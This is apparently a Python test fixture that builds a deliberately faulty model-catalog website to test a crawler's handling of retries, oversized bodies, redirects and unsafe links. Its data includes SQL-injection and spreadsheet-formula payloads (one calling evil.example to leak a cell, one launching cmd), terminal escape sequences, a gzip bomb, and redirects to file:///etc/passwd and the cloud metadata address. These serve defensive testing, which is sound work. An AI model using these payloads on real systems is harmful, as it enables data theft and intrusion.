"""A faulty catalog site for crawl tests: a few hundred offerings behind a server that misbehaves.

:func:`build` writes the site into a folder (pages in the catalog's format, rendered with
``tests/pagegen.py``) and returns a :class:`Plan`: what a correct crawl must store (``truth``,
rows in the format of ``truth.jsonl``), which URLs must be reported broken and why
(``broken``), and which paths must never be requested (``forbidden``). :class:`FaultySite`
serves the folder and injects the faults the plan describes::

    with LocalSite(empty) as elsewhere:
        plan = build(tmp_path / "site", elsewhere=elsewhere.base_url)
        with FaultySite(plan) as site:
            ...  # crawl site.base_url; compare the export with plan.truth_for(site.base_url)
            site.next_epoch()  # the second refresh: some pages break, one is removed

Faults, by kind (the paths are in :data:`FAULTS`):

- server: 503 twice then OK, 429 with Retry-After then OK, 500 forever, 503 with a
  Retry-After too long to wait, a response slower than the timeout once then OK, one
  slow but fine (held while the server answers 20 other requests), 404 and 410 behind related
  cards, the site index and sitemap answering 503 once;
- size and framing: 10 MB announced by Content-Length, 64 MB streamed without one, a
  compressed body that expands to 64 MB, a body cut short of its Content-Length;
- redirects: an old model URL 301 to its canonical, redirects off the site and to file:;
- content: a page that is not a model page, CRLF, no-break and thin spaces, Free, thousands
  separators, EUR, invalid UTF-8, control characters and escape sequences, a 300 KB line,
  non-ASCII names and model ID, SQL and spreadsheet formulas in names, a canonical on
  another host, promotional dollar amounts (every page carries them);
- places not to go: related cards and index links to another host, file:, ftp:,
  javascript:, data:, an IP literal, localhost, and robots.txt-disallowed paths.
"""

from __future__ import annotations

import gzip
import json
import threading
import time
from collections import Counter
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

from spiders.localsite import DEFAULT_PLACEHOLDER, LocalSite, Request, Response
from tests import pagegen
from tests.pagegen import Card, Page

BASE = DEFAULT_PLACEHOLDER
PROVIDERS = {"deepinfra": "DeepInfra", "together_ai": "Together AI", "open_router": "OpenRouter",
             "modelslab": "ModelsLab"}
MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August", "September",
          "October", "November", "December"]
MB = 1 << 20

#: the slow-but-fine page is held until the server has answered this many other requests...
SLOW_HOLD_ANSWERS = 20
#: ...or for this many seconds at most; the crawl's timeout must be longer
SLOW_SECONDS = 6.0
#: seconds a stalled response hangs (longer than any timeout the tests use)
STALL_SECONDS = 12.0


def _path(provider: str, model_id: str) -> str:
    return f"/models/{provider}/{model_id}.md"


#: path -> fault, for model pages that misbehave (the page's own file may or may not exist)
FAULTS: dict[str, str] = {
    _path("deepinfra", "flaky-503-model"): "503 twice, then OK",
    _path("deepinfra", "rate-limited-model"): "429 Retry-After: 1, then OK",
    _path("together_ai", "slow-model"): f"held while {SLOW_HOLD_ANSWERS} other requests are answered, then OK",
    _path("together_ai", "stall-once-model"): "no answer within the timeout once, then OK",
    _path("deepinfra", "old-name-model"): "301 to the canonical new-name-model",
    _path("deepinfra", "broken-500"): "500 forever",
    _path("deepinfra", "broken-retry-after-long"): "503 Retry-After: 3600",
    _path("deepinfra", "broken-huge"): "10 MB with Content-Length",
    _path("deepinfra", "broken-huge-stream"): "64 MB without Content-Length",
    _path("deepinfra", "broken-gzip-bomb"): "gzip body that expands to 64 MB",
    _path("deepinfra", "broken-cut"): "Content-Length longer than the body",
    _path("deepinfra", "broken-malformed"): "a maintenance page, not a model page",
    _path("deepinfra", "broken-redirect-offsite"): "302 to another host",
    _path("deepinfra", "broken-redirect-file"): "301 to file:///etc/passwd",
    _path("open_router", "dead-410"): "410 Gone",
}
#: the same, for the second refresh (epoch 1): offerings stored by the first one that now fail
EPOCH1_FAULTS: dict[str, str] = {
    _path("deepinfra", "stale-parse-model"): "a maintenance page, not a model page",
    _path("deepinfra", "stale-timeout-model"): "no answer within the timeout, ever",
    _path("together_ai", "stale-500-model"): "500 forever",
    _path("open_router", "vanishing-model"): "410 Gone",
}
#: site documents that fail once before answering
FLAKY_DOCUMENTS = {"/llms.txt", "/sitemap.xml"}

#: model ID -> a name written to hurt a careless program: SQL built by string formatting, a
#: spreadsheet that evaluates cells
HOSTILE_NAMES = {
    "sql-quote-model": "'; DROP TABLE offerings; --",
    "sql-paren-model": "Robert'); DROP TABLE offerings; --",
    "formula-model": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "at-formula-model": "@SUM(1+1)*cmd|' /C calc'!A0",
}

MAINTENANCE = b"<!doctype html><html><body><h1>Down for maintenance</h1><p>Back soon.</p></body></html>\n"


@dataclass
class Plan:
    """What the site holds and what a correct crawl of it must give."""

    root: Path
    elsewhere: str
    #: offerings a correct crawl stores, as truth.jsonl rows (URLs under BASE)
    truth: list[dict[str, Any]]
    #: URL path -> a fragment of the reason the refresh summary must give for it
    broken: dict[str, str]
    #: path prefixes on the site that must never be requested
    forbidden: tuple[str, ...]
    #: the offerings of the second refresh: key -> expected ("stale", reason fragment) or ("removed", None)
    epoch1: dict[str, tuple[str, str | None]] = field(default_factory=dict)
    #: hostile names, by offering key (to check their round trip)
    names: dict[str, str] = field(default_factory=dict)

    def truth_for(self, base_url: str) -> list[dict[str, Any]]:
        text = json.dumps(self.truth).replace(BASE, base_url.rstrip("/"))
        return json.loads(text)


# --- rendering -------------------------------------------------------------------------------


def _card(url: str, label: str, name: str, provider_url: str) -> str:
    """A related-model card (as pagegen renders them) pointing at any URL."""
    initials = "".join(w[0] for w in name.replace(":", " ").split()[:2]).upper() or "X"
    return f"[{initials}]({url})[{label}]({provider_url})\n\n [{name}\n\nClosed Source Model]({url})\n\n"


def _with_cards(text: str, cards: list[str]) -> str:
    """TEXT with extra related-model cards appended to its related section."""
    marker = "\nAbout "
    at = text.index(marker) + 1
    return text[:at] + "".join(cards) + text[at:]


def _model_llms(page: Page, provider_name: str) -> str:
    own = f"{BASE}/models/{page.provider}/{page.model_id}"
    return (
        f"# {page.name}\n\n> {page.name} ({page.model_id}) on ModelsLab, served by {provider_name}.\n\n"
        f"- Model ID: {page.model_id}\n- Provider: {provider_name} ({page.provider})\n\n"
        f"## Pages\n\n- [Model page]({own}.md): pricing, parameters and related models\n"
    )


def _date(i: int) -> tuple[str, str]:
    month, day = i % 12, 1 + i % 28
    return f"{MONTHS[month]} {day}, 2025", f"2025-{month + 1:02d}-{day:02d}"


def _amount(n: int, places: int = 3) -> str:
    return f"{n / 10**places:.{places}f}"


@dataclass
class _Offering:
    page: Page
    expect: dict[str, Any]  # truth row
    text: str | bytes | None = None  # the page as served (default: rendered)
    in_index: bool = True
    in_sitemap: bool = True
    extra_cards: list[str] = field(default_factory=list)


def _truth_row(page: Page, date_iso: str | None, **overrides: Any) -> dict[str, Any]:
    prices = {"input_per_mtok": page.input, "output_per_mtok": page.output, "per_image": page.per_image,
              "per_second": page.per_second, "headline": page.headline, "headline_unit": page.headline_unit}
    prices = {k: (v.replace(",", "") if isinstance(v, str) else v) for k, v in prices.items()}
    prices = {k: ("0" if isinstance(v, str) and v.lower() == "free" else v) for k, v in prices.items()}
    row = {
        "url": page.url,
        "provider": page.provider,
        "provider_name": PROVIDERS[page.provider],
        "model_id": page.model_id,
        "name": page.name,
        "creator": page.creator,
        "category": page.category,
        "task": page.task,
        "open_source": page.open_source,
        "date_added": date_iso,
        "prices": {k: v for k, v in prices.items() if v is not None},
        "related": [[c.provider, c.model_id] for c in page.related],
    }
    row.update(overrides)
    return row


def _normal(i: int) -> Page:
    """The i-th plain offering: LLMs mostly, some embedding, image and video models."""
    provider = list(PROVIDERS)[i % len(PROVIDERS)]
    creator = ["meta-llama", "qwen", "mistralai", "deepseek-ai", "google"][i % 5]
    added, _ = _date(i)
    common = dict(provider=provider, creator=creator, added=added, generated_at="2026-11-01T06:00:00Z",
                  description=f"Model {i} of the faulty test site. Ask about $5 credits.")
    kind = i % 10
    if kind == 7:
        return pagegen.embedding(model_id=f"{creator}-embed-{i}", name=f"{creator.title()}: Embed {i}",
                                 input=_amount(5 + i), headline=f"{(5 + i) / 1000:.6f}", **common)
    if kind == 8:
        return pagegen.image(model_id=f"{creator}-image-{i}", name=f"{creator.title()}: Image {i}",
                             per_image=_amount(10 + i, 2), headline=f"{(10 + i) / 100:.6f}", **common)
    if kind == 9:
        return pagegen.video(model_id=f"{creator}-video-{i}", name=f"{creator.title()}: Video {i}",
                             per_second=_amount(100 + i), headline=f"{(100 + i) / 1000:.6f}", **common)
    inp, out = 10 + i, 40 + 3 * i
    return pagegen.llm(model_id=f"{creator}-model-{i}", name=f"{creator.title()}: Model {i}",
                       open_source=i % 3 == 0, input=_amount(inp), output=_amount(out),
                       headline=f"{(inp + out) / 2000:.6f}", **common)


def _card_of(page: Page) -> Card:
    return Card(page.provider, page.model_id, PROVIDERS[page.provider], page.name)


def _special(elsewhere: str) -> list[_Offering]:
    """Offerings whose page or server answer is unusual but that a correct crawl stores."""
    out: list[_Offering] = []

    def add(page: Page, date_iso: str | None = "2025-03-04", text=None, **overrides) -> _Offering:
        offering = _Offering(page, _truth_row(page, date_iso, **overrides), text)
        out.append(offering)
        return offering

    base = dict(added="March 4, 2025", generated_at="2026-11-01T06:00:00Z", creator="vendor")
    # server faults that recover (FAULTS)
    for provider, model_id in (("deepinfra", "flaky-503-model"), ("deepinfra", "rate-limited-model"),
                               ("together_ai", "slow-model"), ("together_ai", "stall-once-model")):
        add(pagegen.llm(provider=provider, model_id=model_id, name=f"Vendor: {model_id}", input="0.10",
                        output="0.30", headline="0.200000", **base))
    # stored by the first refresh, failing in the second (EPOCH1_FAULTS)
    for provider, model_id in (("deepinfra", "stale-parse-model"), ("deepinfra", "stale-timeout-model"),
                               ("together_ai", "stale-500-model"), ("open_router", "vanishing-model")):
        add(pagegen.llm(provider=provider, model_id=model_id, name=f"Vendor: {model_id}", input="0.15",
                        output="0.45", headline="0.300000", **base))
    # the canonical of a page also reached by an old URL that redirects to it: only reachable so
    new = add(pagegen.llm(provider="deepinfra", model_id="new-name-model", name="Vendor: New Name",
                          input="0.07", output="0.09", headline="0.080000", **base))
    new.in_index = new.in_sitemap = False
    # text that varies
    page = pagegen.llm(provider="together_ai", model_id="crlf-model", name="Vendor: CRLF Lines", **base)
    add(page, text=pagegen.render(page).replace("\n", "\r\n"))
    page = pagegen.llm(provider="together_ai", model_id="nbsp-model", name="Vendor: Odd Spaces", input="1.25",
                       output="2.50", headline="1.875000", **base)
    spaced = pagegen.render(page)
    for plain, odd in (("Input $", "Input\u00a0$"), (" / 1M tokens", "\u2009/\u00a01M\u202ftokens"),
                       ("Closed Source Model", "Closed\u00a0Source\u00a0Model")):
        spaced = spaced.replace(plain, odd)
    add(page, text=spaced.replace("\n\n", "\n\t\n \n"))
    add(pagegen.llm(provider="open_router", model_id="free-model", name="Vendor: Free Tier", input="Free",
                    output="Free", headline="Free", **base))
    add(pagegen.image(provider="modelslab", model_id="pricey-image-model", name="Vendor: Pricey Image",
                      per_image="1,250.00", headline="1,250.000000", **base))
    add(pagegen.llm(provider="modelslab", model_id="euro-model", name="Vendor: Euro Priced", money="€{}",
                    input="0.50", output="1.50", headline="1.000000", **base))
    add(pagegen.llm(provider="open_router", model_id="per-million-model", name="Vendor: Per Million",
                    token_unit="per million tokens", input="0.60", output="2.40", headline="1.500000", **base))
    page = pagegen.llm(provider="deepinfra", model_id="bad-bytes-model", name="Vendor: Bad Bytes",
                       description="Made by BADBYTES somewhere.", **base)
    add(page, text=pagegen.render(page).encode().replace(b"BADBYTES", b"\xff\xfe\xc3(\x80"))
    hostile = "Vendor:\x1b[2J\x1b]8;;http://evil.example/\x07Click\x1b]8;;\x07 Me\x9b31m\x07"
    page = pagegen.llm(provider="deepinfra", model_id="escape-model", name=hostile, **base)
    add(page, name="Vendor:Click Me")  # escape sequences dropped whole (payload too), text kept
    page = pagegen.llm(provider="deepinfra", model_id="long-line-model", name="Vendor: Long Line",
                       description="Lorem ipsum $9.99 Input " * 12_500, **base)
    add(page)
    add(pagegen.llm(provider="open_router", model_id="unicode-name-model", name="Zhipu: GLM-4.5 中文版 Ünïcödé 🎨",
                    **base))
    add(pagegen.llm(provider="open_router", model_id="glm-中文-9b", name="Zhipu: GLM 中文 9B", **base))
    for model_id, name in HOSTILE_NAMES.items():
        add(pagegen.llm(provider="modelslab", model_id=model_id, name=name, **base))
    # a canonical that points off the site is not trusted: the page is stored under its own URL
    page = pagegen.llm(provider="together_ai", model_id="offsite-canonical-model", name="Vendor: Off Canonical",
                       canonical=f"{elsewhere}/models/together_ai/offsite-canonical-model.md", **base)
    add(page, url=f"{BASE}/models/together_ai/offsite-canonical-model.md")
    # a page cut off after its pricing block (complete HTTP response): what it shows, nothing invented
    page = pagegen.llm(provider="together_ai", model_id="cut-short-model", name="Vendor: Cut Short",
                       input="0.11", output="0.33", headline="0.220000", **base)
    text = pagegen.render(page)
    cut = add(page, None, text=text[: text.index("API Endpoints")], category=None, task=None)
    cut.expect["prices"] = {"input_per_mtok": "0.11", "output_per_mtok": "0.33", "headline": "0.220000",
                            "headline_unit": "call"}
    return out


def _hostile_cards(elsewhere: str) -> list[str]:
    """Related cards no crawl may follow: other hosts and schemes, and robots-disallowed paths."""
    targets = [
        f"{elsewhere}/models/deepinfra/elsewhere-model",
        "file:///etc/passwd",
        "ftp://127.0.0.1/models/deepinfra/ftp-model",
        "javascript:alert(1)//models/deepinfra/js-model",
        "data:text/plain,models/deepinfra/data-model",
        "http://169.254.169.254/models/deepinfra/metadata-model",
        "http://localhost:1/models/deepinfra/localhost-model",
        f"{BASE}/api/v7/models/deepinfra/api-model",
    ]
    return [_card(t, "Elsewhere", "Else: Where", f"{BASE}/models/deepinfra") for t in targets]


# --- the site --------------------------------------------------------------------------------


def build(root: Path, *, elsewhere: str, count: int = 200) -> Plan:
    """Write the faulty site into ROOT (``count`` plain offerings plus the special ones)."""
    root.mkdir(parents=True, exist_ok=True)
    normal = [_normal(i) for i in range(count)]
    offerings: list[_Offering] = []
    for i, page in enumerate(normal):
        cards = [normal[(i + 1) % count], normal[(i + 7) % count], normal[(i + 31) % count]]
        related = tuple(_card_of(p) for p in cards)
        if i == 3:  # dead links from related cards
            related += (Card("deepinfra", "dead-404", "DeepInfra", "Dead: Not Found"),
                        Card("open_router", "dead-410", "OpenRouter", "Dead: Gone"))
        if i == 4:  # a card robots.txt disallows: in the page's related list, never requested
            related += (Card("private", "secret-model", "Private", "Secret: Model"),)
        if i == 5:  # an old URL that redirects to its canonical, reached only through this card
            related += (Card("deepinfra", "old-name-model", "DeepInfra", "Vendor: Old Name"),)
        page = replace(page, related=related)
        _, date_iso = _date(i)
        offering = _Offering(page, _truth_row(page, date_iso), in_index=i % 5 != 0, in_sitemap=i % 3 != 0)
        if i == 6:
            offering.extra_cards = _hostile_cards(elsewhere)
        offerings.append(offering)
    specials = _special(elsewhere)
    offerings += specials
    for o in offerings:
        page = o.page
        if o.text is None:
            text = pagegen.render(page)
            if o.extra_cards:
                text = _with_cards(text, o.extra_cards)
            o.text = text
        target = root / page.url[len(BASE) + 1:]
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(o.text.encode() if isinstance(o.text, str) else o.text)
        llms = root / page.url[len(BASE) + 1: -len(".md")] / "llms.txt"
        llms.parent.mkdir(parents=True, exist_ok=True)
        llms.write_text(_model_llms(page, PROVIDERS[page.provider]), encoding="utf-8")
    broken_paths = [p for p, f in FAULTS.items() if "broken-" in p]
    index = ["# ModelsLab", "", "> A catalog of AI models (faulty test site).", "", "## Models", ""]
    # the slow pages first, so the crawl has plenty to do while they hang
    ordered = sorted(offerings, key=lambda o: o.page.model_id not in ("slow-model", "stall-once-model"))
    index += [f"- [{o.page.name}]({o.page.url}): {PROVIDERS[o.page.provider]}" for o in ordered if o.in_index]
    index += [f"- [Broken]({BASE}{p})" for p in broken_paths]
    index += ["", "## Elsewhere", "",
              f"- [Another host]({elsewhere}/models/deepinfra/index-elsewhere.md)",
              "- [A file](file:///etc/passwd)",
              "- [FTP](ftp://127.0.0.1/models/deepinfra/ftp-index.md)",
              f"- [Private]({BASE}/models/private/index-secret.md)",
              f"- [API]({BASE}/api/v7/models/deepinfra/api-index.md)",
              f"- [Dashboard]({BASE}/dashboard/models/deepinfra/dash.md)",
              "- [Localhost](http://localhost:1/models/deepinfra/localhost-index.md)", ""]
    (root / "llms.txt").write_text("\n".join(index), encoding="utf-8")
    (root / "robots.txt").write_text(
        "User-agent: *\nDisallow: /api/\nDisallow: /dashboard\nDisallow: /models/private/\n"
        f"Sitemap: {BASE}/sitemap.xml\nSitemap: {elsewhere}/sitemap.xml\n", encoding="utf-8")
    (root / "sitemap.xml").write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n'
        f"<sitemap><loc>{BASE}/sitemap-models-1.xml</loc></sitemap>\n"
        f"<sitemap><loc>{elsewhere}/sitemap-evil.xml</loc></sitemap>\n</sitemapindex>\n", encoding="utf-8")
    urls = [o.page.url[: -len(".md")] for o in offerings if o.in_sitemap]
    urls += [f"{elsewhere}/models/deepinfra/sitemap-elsewhere", f"{BASE}/models/private/sitemap-secret"]
    (root / "sitemap-models-1.xml").write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n'
        + "".join(f"<url><loc>{u}</loc><lastmod>2026-11-01</lastmod></url>\n" for u in urls)
        + "</urlset>\n", encoding="utf-8")

    broken = {
        _path("deepinfra", "broken-500"): "HTTP 500 (4 tries)",
        _path("deepinfra", "broken-retry-after-long"): "HTTP 503: Retry-After 3600 s is longer than the 60 s",
        _path("deepinfra", "broken-huge"): "response larger than 4 MB (10 MB announced): refused unread",
        _path("deepinfra", "broken-huge-stream"): "response larger than 4 MB: download stopped at the limit",
        _path("deepinfra", "broken-gzip-bomb"): "compressed response expands past the size limit",
        _path("deepinfra", "broken-cut"): "connection closed before the whole response arrived (body cut off)",
        _path("deepinfra", "broken-malformed"): "unreadable page: not a model page",
        _path("deepinfra", "broken-redirect-offsite"): f"redirected off the site to {elsewhere}/",
        _path("deepinfra", "broken-redirect-file"): "HTTP 301 redirect to file:///etc/passwd not followed",
        _path("deepinfra", "dead-404"): "HTTP 404",
        _path("open_router", "dead-410"): "HTTP 410",
    }
    epoch1 = {
        "deepinfra/stale-parse-model": ("stale", "unreadable page: not a model page"),
        "deepinfra/stale-timeout-model": ("stale", "timed out: no complete answer within 1 s (4 tries)"),
        "together_ai/stale-500-model": ("stale", "HTTP 500 (4 tries)"),
        "open_router/vanishing-model": ("removed", None),
    }
    names = {f"{o.page.provider}/{o.page.model_id}": o.expect["name"] for o in specials
             if o.page.model_id in HOSTILE_NAMES}
    return Plan(root=root, elsewhere=elsewhere, truth=[o.expect for o in offerings], broken=broken,
                forbidden=("/api/", "/dashboard", "/models/private/"), epoch1=epoch1, names=names)


class FaultySite(LocalSite):
    """Serves a :func:`build` folder, answering the paths of :data:`FAULTS` with their fault.

    ``next_epoch()`` switches to the second refresh's faults (:data:`EPOCH1_FAULTS`) and
    restarts the per-path attempt counts, so "fail twice, then OK" happens in each refresh.
    """

    def __init__(self, plan: Plan, **kwargs: Any) -> None:
        super().__init__(plan.root, **kwargs)
        self.plan = plan
        self.epoch = 0
        self._tries: Counter[str] = Counter()
        self._tries_lock = threading.Lock()
        #: path -> the request log's length when the slow page was held and when it was let go
        self.held: dict[str, tuple[int, int]] = {}

    def next_epoch(self) -> None:
        with self._tries_lock:
            self.epoch += 1
            self._tries.clear()
        self.requests.clear()

    def tries(self) -> dict[str, int]:
        """Requests that arrived for each path in this epoch, answered yet or not.

        (The request log gets a row only once its answer is sent: a stalled answer may come
        after the crawl has moved on.)
        """
        with self._tries_lock:
            return dict(self._tries)

    def _try(self, path: str) -> int:
        with self._tries_lock:
            self._tries[path] += 1
            return self._tries[path]

    def respond(self, request: Request) -> Response:
        path, attempt = request.path, self._try(request.path)
        if path in FLAKY_DOCUMENTS and attempt == 1:
            return Response.text(503)
        if self.epoch >= 1 and path in EPOCH1_FAULTS:
            return self._epoch1_fault(path)
        fault = FAULTS.get(path)
        if fault is None:
            return super().respond(request)
        name = path.rsplit("/", 1)[1][: -len(".md")]
        if name == "flaky-503-model" and attempt <= 2:
            return Response(503, b"busy\n", {"Retry-After": "1"} if attempt == 1 else {})
        if name == "rate-limited-model" and attempt == 1:
            return Response(429, b"slow down\n", {"Retry-After": "1"})
        if name == "slow-model" and self.epoch == 0:
            self.held[path] = self._hold(SLOW_HOLD_ANSWERS, SLOW_SECONDS)
        if name == "stall-once-model" and attempt == 1:
            time.sleep(STALL_SECONDS)
            return Response.text(504)  # too late for the crawl, which has retried; tells the log apart
        if name == "old-name-model":
            return Response.redirect(self.url("/models/deepinfra/new-name-model.md"))
        if name == "broken-500":
            return Response.text(500)
        if name == "broken-retry-after-long":
            return Response(503, b"maintenance\n", {"Retry-After": "3600"})
        if name == "broken-huge":
            return Response(200, (b"x" * 65536 for _ in range(160)), length=160 * 65536,
                            content_type="text/markdown; charset=utf-8")
        if name == "broken-huge-stream":
            return Response(200, (b"y" * 65536 for _ in range(1024)), content_type="text/markdown; charset=utf-8")
        if name == "broken-gzip-bomb":
            return Response(200, _gzip_bomb(), {"Content-Encoding": "gzip"},
                            content_type="text/markdown; charset=utf-8")
        if name == "broken-cut":
            return Response(200, [b"---\ncanonical: cut\n"], length=50_000, content_type="text/markdown; charset=utf-8")
        if name == "broken-malformed":
            return Response(200, MAINTENANCE, content_type="text/markdown; charset=utf-8")
        if name == "broken-redirect-offsite":
            return Response.redirect(f"{self.plan.elsewhere}/models/deepinfra/redirected-model.md", 302)
        if name == "broken-redirect-file":
            return Response.redirect("file:///etc/passwd")
        if name == "dead-410":
            return Response.text(410)
        return super().respond(request)

    def _hold(self, answers: int, most: float) -> tuple[int, int]:
        """Wait until the server has answered ANSWERS more requests, or for MOST seconds; returns
        the request log's length before and after."""
        before = len(self.requests)
        deadline = time.monotonic() + most
        while len(self.requests) < before + answers and time.monotonic() < deadline:
            time.sleep(0.01)
        return before, len(self.requests)

    def _epoch1_fault(self, path: str) -> Response:
        name = path.rsplit("/", 1)[1][: -len(".md")]
        if name == "stale-parse-model":
            return Response(200, MAINTENANCE, content_type="text/markdown; charset=utf-8")
        if name == "stale-timeout-model":
            time.sleep(STALL_SECONDS)
            return Response.text(200)
        if name == "stale-500-model":
            return Response.text(500)
        return Response.text(410)


_BOMB: bytes | None = None


def _gzip_bomb() -> bytes:
    """64 MB of zeros, gzipped (about 64 KB)."""
    global _BOMB
    if _BOMB is None:
        _BOMB = gzip.compress(b"\0" * (64 * MB), compresslevel=9)
    return _BOMB
